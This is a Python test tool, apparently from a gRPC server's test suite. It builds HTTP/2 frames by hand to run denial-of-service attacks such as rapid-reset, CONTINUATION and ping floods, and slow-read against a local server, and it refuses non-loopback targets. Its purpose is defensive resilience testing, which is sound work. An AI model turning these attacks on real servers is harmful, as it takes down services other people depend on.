#!/usr/bin/python3
"""h2_attack.py: a hostile HTTP/2 client for attacking authd's gRPC server on loopback.

The e2e tests and the benchmarks use it to check that the server survives HTTP/2-level abuse
and to see when it fights back (GOAWAY, closing the connection). Python 3 standard library
only. Frames and HPACK (literal without indexing, no Huffman) are built by hand.

  h2_attack.py ATTACK --target HOST:PORT [--connections N] [--duration S] [--reconnect]
               [--tls] [--path /authd.v1.AuthorizeService/Authorize] [--json]

Attacks (each connection sends the preface and a SETTINGS frame, then):
  rapid-reset          HEADERS on a new stream, then RST_STREAM(CANCEL) on it at once, over and over
  ping-flood           PING frames (not ACKs) as fast as possible
  settings-flood       non-ACK SETTINGS frames (INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS) as fast as possible
  continuation-flood   HEADERS on stream 1 without END_HEADERS, then endless CONTINUATIONs of valid header fields
  window-update-flood  WINDOW_UPDATE(+1) on stream 0 until the window would overflow 2^31-1, then idle
  zero-window          SETTINGS_INITIAL_WINDOW_SIZE=0, then keep 100 gRPC requests open and never grant window
  slow-read            100 gRPC requests every 50 ms, never read (SO_RCVBUF 4096): the responses pile up
  idle-conns           open --connections plain TCP connections that send nothing (no TLS handshake either)
  churn                each worker: connect, preface + SETTINGS + one Authorize request, close; repeat

Every connection reads and parses what the server sends (except slow-read, which never reads),
ACKs the server's SETTINGS and PINGs, and records GOAWAYs. After a GOAWAY it stops sending,
reads until EOF for at most 1 s and closes. A connection the server ended stays closed unless
--reconnect is given. Every loop is bounded by --duration (default 5 s, at most 600 s).

SAFETY: the target must be loopback: 127.0.0.0/8, "localhost" (only its loopback addresses) or ::1.
Anything else is refused with exit code 2 before any connection is made.

Output (--json): one line on stdout
  {"attack": str, "duration_s": float, "connections_opened": int, "connect_failures": int,
   "frames_sent": int, "bytes_sent": int, "streams_opened": int,
   "goaways": [{"t_s": float, "error_code": int, "last_stream_id": int, "debug": str}, ...first 50],
   "goaway_count": int,
   "server_closes": int,            # connections ended by the server: GOAWAY, EOF, reset, send failure
   "first_close_t_s": float|null}   # first such end (the GOAWAY's time if there was one), since start
frames_sent and streams_opened count only frames whose bytes were fully written to the socket.
Exit codes: 0 normally (even if the server closed everything), 1 if no connection could be
opened at all, 2 for bad arguments or a non-loopback target.
"""

import argparse
import collections
import ipaddress
import json
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 0x3, 0x4
CANCEL = 0x8
MAX_STREAM_ID = 2**31 - 1
WINDOW_UPDATE_CAP = 2**31 - 1 - 65535  # total +1 increments before the connection window overflows
GRPC_EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"  # not compressed, length 0
ATTACKS = ("rapid-reset", "ping-flood", "settings-flood", "continuation-flood", "window-update-flood",
           "zero-window", "slow-read", "idle-conns", "churn")
LOW_WATER = 64 * 1024  # refill the send buffer when it holds less than this
SEND_CHUNK = 64 * 1024
GOAWAY_DRAIN_S = 1.0
MAX_GOAWAYS_LISTED = 50


# ---------------------------------------------------------------- frames and HPACK

def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream_id & 0x7FFFFFFF) + payload


def settings_frame(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_int(value, prefix_bits, first_byte=0):
    """RFC 7541 5.1 integer with an N-bit prefix (first_byte holds the bits above the prefix)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_literal(name, value):
    """Literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def request_header_block(path, tls):
    return b"".join(hpack_literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "https" if tls else "http"), (":path", path),
        (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")))


def pop_frames(buf):
    """Removes the complete frames from the front of buf: [(type, flags, stream_id, payload)]."""
    frames, pos = [], 0
    while len(buf) - pos >= 9:
        length = int.from_bytes(buf[pos:pos + 3], "big")
        if len(buf) - pos < 9 + length:
            break
        ftype, flags, sid = buf[pos + 3], buf[pos + 4], int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
        frames.append((ftype, flags, sid, bytes(buf[pos + 9:pos + 9 + length])))
        pos += 9 + length
    del buf[:pos]
    return frames


# ---------------------------------------------------------------- safety, sockets, stats

def is_loopback(addr):
    try:
        return ipaddress.ip_address(addr.split("%")[0]).is_loopback  # 127.0.0.0/8 or ::1
    except ValueError:
        return False


def resolve_loopback(host, port):
    """(family, sockaddr) of a loopback target, or None. Only "localhost" is ever looked up."""
    if host.lower() == "localhost":
        infos = socket.getaddrinfo("localhost", port, 0, socket.SOCK_STREAM)
    elif is_loopback(host):
        infos = socket.getaddrinfo(host, port, 0, socket.SOCK_STREAM, 0, socket.AI_NUMERICHOST)
    else:
        return None
    for family, _, _, _, sockaddr in infos:
        if family in (socket.AF_INET, socket.AF_INET6) and is_loopback(sockaddr[0]):
            return family, sockaddr
    return None


def tls_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


def open_socket(cfg, timeout, rcvbuf=None, tls=None):
    family, sockaddr = cfg.addr
    if not is_loopback(sockaddr[0]):  # defence in depth: main() has checked already
        raise SystemExit(2)
    raw = socket.socket(family, socket.SOCK_STREAM)
    try:
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        raw.settimeout(max(0.05, timeout))
        raw.connect(sockaddr)
        if (cfg.tls if tls is None else tls):
            return cfg.tls_ctx.wrap_socket(raw, server_hostname="localhost")  # handshakes here
        return raw
    except BaseException:
        raw.close()
        raise


class Stats:
    COUNTERS = ("connections_opened", "connect_failures", "frames_sent", "bytes_sent", "streams_opened",
                "server_closes")

    def __init__(self, start):
        self.start, self.lock = start, threading.Lock()
        for name in self.COUNTERS:
            setattr(self, name, 0)
        self.goaways, self.goaway_count, self.first_close = [], 0, None

    def add(self, **counts):
        with self.lock:
            for name, n in counts.items():
                setattr(self, name, getattr(self, name) + n)

    def goaway(self, when, payload):
        last, code = struct.unpack(">II", payload[:8]) if len(payload) >= 8 else (0, 0)
        debug = payload[8:264].decode("ascii", "backslashreplace")
        with self.lock:
            self.goaway_count += 1
            if len(self.goaways) < MAX_GOAWAYS_LISTED:
                self.goaways.append({"t_s": round(when - self.start, 4), "error_code": code,
                                     "last_stream_id": last & 0x7FFFFFFF, "debug": debug})

    def server_close(self, when):
        with self.lock:
            self.server_closes += 1
            if self.first_close is None or when < self.first_close:
                self.first_close = when


# ---------------------------------------------------------------- one attacking connection

class Conn:
    """A non-blocking HTTP/2 connection: keeps its send buffer topped up with attack frames,
    reads and parses server frames (unless slow-read) and ends on a server close or the deadline."""

    def __init__(self, cfg, stats, sock):
        self.cfg, self.stats, self.sock = cfg, stats, sock
        self.attack, self.reading = cfg.attack, cfg.attack != "slow-read"
        sock.setblocking(False)
        self.out, self.inbuf = bytearray(), bytearray()
        self.queued = self.sent = self.retry_len = 0
        self.credits = collections.deque()  # (end offset in the byte stream, frames, streams)
        self.goaway_at, self.server_ended = None, False
        self.next_sid, self.counter, self.wu_queued, self.next_batch_at = 1, 0, 0, 0.0
        self.in_flight, self.peer_max_streams, self.peer_conn_window = set(), 2**31, 65535
        first = settings_frame((INITIAL_WINDOW_SIZE, 0)) if self.attack == "zero-window" else settings_frame()
        self.queue(PREFACE + first, 1)

    def queue(self, data, frames, streams=0):
        self.out += data
        self.queued += len(data)
        self.credits.append((self.queued, frames, streams))

    def take_stream_ids(self, n):
        n = max(0, min(n, (MAX_STREAM_ID - self.next_sid) // 2 + 1))
        sids = list(range(self.next_sid, self.next_sid + 2 * n, 2))
        self.next_sid += 2 * n
        return sids

    def grpc_requests(self, sids):
        return b"".join(frame(HEADERS, END_HEADERS, s, self.cfg.header_block) +
                        frame(DATA, END_STREAM, s, GRPC_EMPTY_MESSAGE) for s in sids)

    def refill(self, now):
        a, c = self.attack, self.cfg
        if a == "rapid-reset":
            sids = self.take_stream_ids(100)
            rst = struct.pack(">I", CANCEL)
            self.queue(b"".join(frame(HEADERS, END_HEADERS, s, c.header_block) + frame(RST_STREAM, 0, s, rst)
                                for s in sids), 2 * len(sids), len(sids))
        elif a == "ping-flood":
            self.queue(c.ping_batch, 100)
        elif a == "settings-flood":
            self.queue(c.settings_batch, 100)
        elif a == "window-update-flood":
            n = min(200, WINDOW_UPDATE_CAP - self.wu_queued)
            if n > 0:
                self.wu_queued += n
                self.queue(c.window_update * n, n)
        elif a == "continuation-flood":
            if self.next_sid == 1:
                self.next_sid = 3
                self.queue(frame(HEADERS, 0, 1, c.header_block), 1, 1)
            parts = []
            for _ in range(32):
                self.counter += 1
                parts.append(frame(CONTINUATION, 0, 1, hpack_literal("x-pad-%03d" % self.counter, c.pad)))
            self.queue(b"".join(parts), len(parts))
        elif a == "zero-window":
            room = min(100, self.peer_max_streams) - len(self.in_flight)
            sids = self.take_stream_ids(min(room, self.peer_conn_window // len(GRPC_EMPTY_MESSAGE)))
            if sids:
                self.in_flight.update(sids)
                self.peer_conn_window -= len(GRPC_EMPTY_MESSAGE) * len(sids)
                self.queue(self.grpc_requests(sids), 2 * len(sids), len(sids))
        elif a == "slow-read" and now >= self.next_batch_at:
            self.next_batch_at = now + 0.05
            sids = self.take_stream_ids(100)
            if sids:
                self.queue(self.grpc_requests(sids), 2 * len(sids), len(sids))

    def run(self, deadline):
        poller, fd, mask = select.poll(), self.sock.fileno(), 0
        try:
            while True:
                now = time.monotonic()
                if now >= deadline or (self.goaway_at is not None and now - self.goaway_at >= GOAWAY_DRAIN_S):
                    return
                if self.goaway_at is None and len(self.out) < LOW_WATER:
                    self.refill(now)
                want = (select.POLLIN if self.reading else 0) | (select.POLLOUT if self.out else 0)
                if not want:  # slow-read between batches, or an attack with nothing left to send
                    time.sleep(max(0.001, min(0.05, self.next_batch_at - now, deadline - now)))
                    continue
                if want != mask:
                    poller.register(fd, want)  # register() on a registered fd modifies it
                    mask = want
                for _, ev in poller.poll(max(1, int(min(0.05, deadline - now) * 1000))):
                    if self.reading and ev & (select.POLLIN | select.POLLHUP | select.POLLERR):
                        if not self.read():
                            return
                    if ev & (select.POLLOUT | select.POLLERR | select.POLLHUP) and self.out:
                        if not self.write():
                            return
        finally:
            self.close()

    def read(self):
        for _ in range(16):  # bounded, so a chatty server cannot starve our sending
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return True
            except OSError:
                return self.ended_by_server()
            if not data:
                return self.ended_by_server()
            self.inbuf += data
            for ftype, flags, sid, payload in pop_frames(self.inbuf):
                self.on_frame(ftype, flags, sid, payload)
        return True

    def on_frame(self, ftype, flags, sid, payload):
        if ftype == GOAWAY:
            self.stats.goaway(time.monotonic(), payload)
            if self.goaway_at is None:  # stop sending; unsent frames are not counted
                self.goaway_at = time.monotonic()
                self.out.clear()
                self.credits.clear()
                self.retry_len = 0
        elif self.goaway_at is not None:
            return
        elif ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack(">HI", payload[i:i + 6])
                if key == MAX_CONCURRENT_STREAMS:
                    self.peer_max_streams = value
            self.queue(frame(SETTINGS, ACK, 0), 1)
        elif ftype == PING and not flags & ACK:
            self.queue(frame(PING, ACK, 0, payload), 1)
        elif ftype == WINDOW_UPDATE and sid == 0 and len(payload) == 4:
            self.peer_conn_window += struct.unpack(">I", payload)[0] & 0x7FFFFFFF
        elif ftype == RST_STREAM or (ftype in (HEADERS, DATA) and flags & END_STREAM):
            self.in_flight.discard(sid)

    def write(self):
        n = self.retry_len or min(len(self.out), SEND_CHUNK)  # TLS retries must repeat the same length
        try:
            sent = self.sock.send(self.out[:n])
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            self.retry_len = n if self.cfg.tls else 0
            return True
        except OSError:  # EPIPE, ECONNRESET, ...: the only way slow-read notices a close
            return self.ended_by_server()
        self.retry_len = 0
        del self.out[:sent]
        self.sent += sent
        frames = streams = 0
        while self.credits and self.credits[0][0] <= self.sent:
            _, f, s = self.credits.popleft()
            frames, streams = frames + f, streams + s
        self.stats.add(bytes_sent=sent, frames_sent=frames, streams_opened=streams)
        return True

    def ended_by_server(self):
        if not self.server_ended:
            self.server_ended = True
            self.stats.server_close(self.goaway_at or time.monotonic())
        return False

    def close(self):
        if self.goaway_at is not None:  # a GOAWAY ends the connection even if we hang up first
            self.ended_by_server()
        try:
            self.sock.close()
        except OSError:
            pass


# ---------------------------------------------------------------- workers

def conn_worker(cfg, stats, deadline):
    while time.monotonic() < deadline:
        try:
            sock = open_socket(cfg, min(2.0, deadline - time.monotonic()),
                               rcvbuf=4096 if cfg.attack == "slow-read" else None)
        except OSError:
            stats.add(connect_failures=1)
            if not cfg.reconnect:
                return
            time.sleep(max(0.0, min(0.05, deadline - time.monotonic())))
            continue
        stats.add(connections_opened=1)
        Conn(cfg, stats, sock).run(deadline)
        if not cfg.reconnect:
            return


def churn_worker(cfg, stats, deadline):
    hello = (PREFACE + settings_frame() + frame(HEADERS, END_HEADERS, 1, cfg.header_block) +
             frame(DATA, END_STREAM, 1, GRPC_EMPTY_MESSAGE))
    while time.monotonic() < deadline:
        try:
            sock = open_socket(cfg, min(2.0, deadline - time.monotonic()))
        except OSError:
            stats.add(connect_failures=1)
            time.sleep(0.001)
            continue
        stats.add(connections_opened=1)
        try:
            sock.sendall(hello)
            stats.add(frames_sent=3, bytes_sent=len(hello), streams_opened=1)
        except OSError:
            stats.server_close(time.monotonic())
        finally:
            sock.close()


def idle_conns(cfg, stats, deadline):
    """All connections in one poll() loop: connect, send nothing, notice EOF/reset and GOAWAYs."""
    conns, poller = {}, select.poll()  # fd -> [sock, inbuf, goaway_at]
    attempts, next_open = 0, 0.0

    def drop(fd, by_server):
        sock, _, goaway_at = conns.pop(fd)
        poller.unregister(fd)
        sock.close()
        if by_server:
            stats.server_close(goaway_at or time.monotonic())

    try:
        while time.monotonic() < deadline:
            slice_end = min(time.monotonic() + 0.05, deadline)
            while time.monotonic() < slice_end and time.monotonic() >= next_open and (
                    attempts < cfg.connections or (cfg.reconnect and len(conns) < cfg.connections)):
                attempts += 1
                try:
                    sock = open_socket(cfg, min(1.0, deadline - time.monotonic()), tls=False)
                except OSError:
                    stats.add(connect_failures=1)
                    next_open = time.monotonic() + 0.05
                    continue
                sock.setblocking(False)
                stats.add(connections_opened=1)
                conns[sock.fileno()] = [sock, bytearray(), None]
                poller.register(sock.fileno(), select.POLLIN)
            now = time.monotonic()
            for fd, state in list(conns.items()):
                if state[2] is not None and now - state[2] >= GOAWAY_DRAIN_S:
                    drop(fd, True)
            for fd, _ in poller.poll(max(1, int(min(0.1, deadline - now) * 1000))):
                if fd not in conns:
                    continue
                state = conns[fd]
                try:
                    data = state[0].recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    drop(fd, True)
                    continue
                if cfg.tls:  # TLS bytes (an alert, say): nothing to parse
                    continue
                state[1] += data
                for ftype, _, _, payload in pop_frames(state[1]):
                    if ftype == GOAWAY:
                        stats.goaway(time.monotonic(), payload)
                        state[2] = state[2] or time.monotonic()
    finally:
        for fd in list(conns):
            drop(fd, False)


# ---------------------------------------------------------------- main

def parse_args():
    p = argparse.ArgumentParser(description="HTTP/2 attack tool for loopback gRPC servers (see the header).")
    p.add_argument("attack", choices=ATTACKS)
    p.add_argument("--target", required=True, help="HOST:PORT; HOST must be 127.0.0.0/8, localhost or ::1")
    p.add_argument("--connections", type=int, default=2)
    p.add_argument("--duration", type=float, default=5.0)
    p.add_argument("--reconnect", action="store_true")
    p.add_argument("--tls", action="store_true")
    p.add_argument("--path", default="/authd.v1.AuthorizeService/Authorize")
    p.add_argument("--json", action="store_true")
    args = p.parse_args()
    if not 0 < args.duration <= 600:
        p.error("--duration must be in (0, 600]")
    max_conns = 20000 if args.attack == "idle-conns" else 1000  # the others use a thread per connection
    if not 1 <= args.connections <= max_conns:
        p.error("--connections must be in [1, %d] for %s" % (max_conns, args.attack))
    if not args.path.startswith("/"):
        p.error("--path must start with /")
    host, sep, port = args.target.rpartition(":")
    if host.startswith("[") and host.endswith("]"):
        host = host[1:-1]
    if not sep or not host or not port.isdigit() or not 0 < int(port) < 65536:
        p.error("--target must be HOST:PORT")
    args.host, args.port = host, int(port)
    return args


def raise_nofile_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = hard if hard != resource.RLIM_INFINITY else 1 << 20
    if soft != resource.RLIM_INFINITY and soft < target:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
        except (ValueError, OSError):
            pass


def report(cfg, stats, elapsed):
    first = None if stats.first_close is None else round(stats.first_close - stats.start, 4)
    result = {"attack": cfg.attack, "duration_s": round(elapsed, 3)}
    result.update({name: getattr(stats, name) for name in Stats.COUNTERS[:5]})
    result.update({"goaways": sorted(stats.goaways, key=lambda g: g["t_s"]), "goaway_count": stats.goaway_count,
                   "server_closes": stats.server_closes, "first_close_t_s": first})
    if cfg.json:
        print(json.dumps(result, separators=(",", ":")), flush=True)
        return
    print("%s against %s:%d for %.1f s" % (cfg.attack, cfg.host, cfg.port, elapsed))
    for name in Stats.COUNTERS:
        print("  %-20s %d" % (name, getattr(stats, name)))
    print("  %-20s %s" % ("first_close_t_s", first))
    print("  %-20s %d" % ("goaway_count", stats.goaway_count))
    for g in result["goaways"][:10]:
        print("    t=%.3fs error_code=%d last_stream_id=%d debug=%r" %
              (g["t_s"], g["error_code"], g["last_stream_id"], g["debug"]))


def main():
    cfg = parse_args()
    try:
        cfg.addr = resolve_loopback(cfg.host, cfg.port)
    except OSError:
        cfg.addr = None
    if cfg.addr is None:
        print("h2_attack: refusing target %r: only 127.0.0.0/8, localhost and ::1 are allowed" % cfg.target,
              file=sys.stderr)
        return 2
    raise_nofile_limit()
    cfg.tls_ctx = tls_context() if cfg.tls else None
    cfg.header_block = request_header_block(cfg.path, cfg.tls)
    cfg.pad = "v" * 1000
    cfg.ping_batch = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(100))
    cfg.settings_batch = settings_frame((INITIAL_WINDOW_SIZE, 65535), (MAX_CONCURRENT_STREAMS, 100)) * 100
    cfg.window_update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))

    start = time.monotonic()
    deadline = start + cfg.duration
    stats = Stats(start)
    try:
        if cfg.attack == "idle-conns":
            idle_conns(cfg, stats, deadline)
        else:
            worker = churn_worker if cfg.attack == "churn" else conn_worker
            threads = [threading.Thread(target=worker, args=(cfg, stats, deadline), daemon=True)
                       for _ in range(cfg.connections)]
            for t in threads:
                t.start()
            for t in threads:
                t.join(max(0.0, deadline + 3.0 - time.monotonic()))
            if stats.connections_opened:  # closed connections stay closed: idle until the end
                time.sleep(max(0.0, deadline - time.monotonic()))
    except KeyboardInterrupt:
        pass
    report(cfg, stats, time.monotonic() - start)
    return 0 if stats.connections_opened else 1


if __name__ == "__main__":
    sys.exit(main())
